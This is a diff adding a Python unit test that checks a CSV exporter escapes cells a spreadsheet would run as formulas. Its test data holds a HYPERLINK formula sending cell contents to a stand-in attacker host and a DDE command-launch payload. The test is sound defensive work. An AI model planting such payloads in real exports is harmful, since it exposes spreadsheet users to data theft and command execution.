@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, date, datetime
 
 import pytest
@@ -53,6 +55,21 @@ def test_tables_write_csv_with_rates_as_shares() -> None:
     assert rate_text(None) == "n/a"
     assert rate_text(0.666) == "67%"
     assert rate_colour(1.0) == "hsl(120, 70%, 78%)"
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text() -> None:
+    table = DataTable("practitioners", "Practitioners", ["Practitioner", "Site", "Change"])
+    table.add(['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", -2])
+    table.add(["+31 6 1234", "-north", 0.5])
+    table.add(["\tTabbed", "\rReturned", None])
+    table.add(["Ann = Bob", "site@home", 3])
+    rows = list(csv.reader(io.StringIO(table.to_csv())))
+    assert rows[1:] == [
+        ['\'=HYPERLINK("http://evil.example/?"&A1,"open")', "'@SUM(1+1)*cmd|' /C calc'!A0", "-2"],
+        ["'+31 6 1234", "'-north", "0.500"],
+        ["'\tTabbed", "'\rReturned", ""],
+        ["Ann = Bob", "site@home", "3"],
+    ]
 
 
 def test_changes_merge_partial_rows_of_one_entity() -> None:
